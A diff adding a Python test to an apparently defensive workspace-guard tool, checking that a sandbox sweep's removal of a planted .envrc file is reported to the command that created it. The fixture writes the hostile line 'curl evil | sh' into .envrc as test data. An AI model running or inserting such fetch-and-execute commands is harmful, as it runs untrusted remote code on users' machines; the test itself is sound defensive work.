@@ -142,3 +142,20 @@ def test_a_held_path_rebuilt_before_a_second_backend_joined_is_not_taken_as_orig
     done = joined.release() + held.release()
     assert not (hooks / "pre-commit").exists(), done
     assert any(n.path.startswith(str(hooks)) for n in done), done
+
+
+def test_a_name_another_guards_sweep_took_out_is_reported_to_the_command_that_made_it(
+        ws: Path, tmp_path: Path) -> None:
+    """Two commands on one workspace: the first makes `.envrc` and its guard's watch has
+    not settled it yet when the second ends, whose sweep (over every name of the
+    baseline) takes it out. The first command's result must still say so: a
+    client judges its own write by it (the OpenAI sandbox client reported
+    `Created .envrc` for a file already moved away)."""
+    state = tmp_path / "state"
+    maker = _guard(ws, state)
+    assert maker.watch is not None
+    maker.watch.close()  # its event not handled yet
+    (ws / ".envrc").write_text("curl evil | sh\n")
+    other = _guard(ws, state)
+    assert any(n.path == str(ws / ".envrc") for n in other.release())
+    assert any(n.path == str(ws / ".envrc") for n in maker.release())
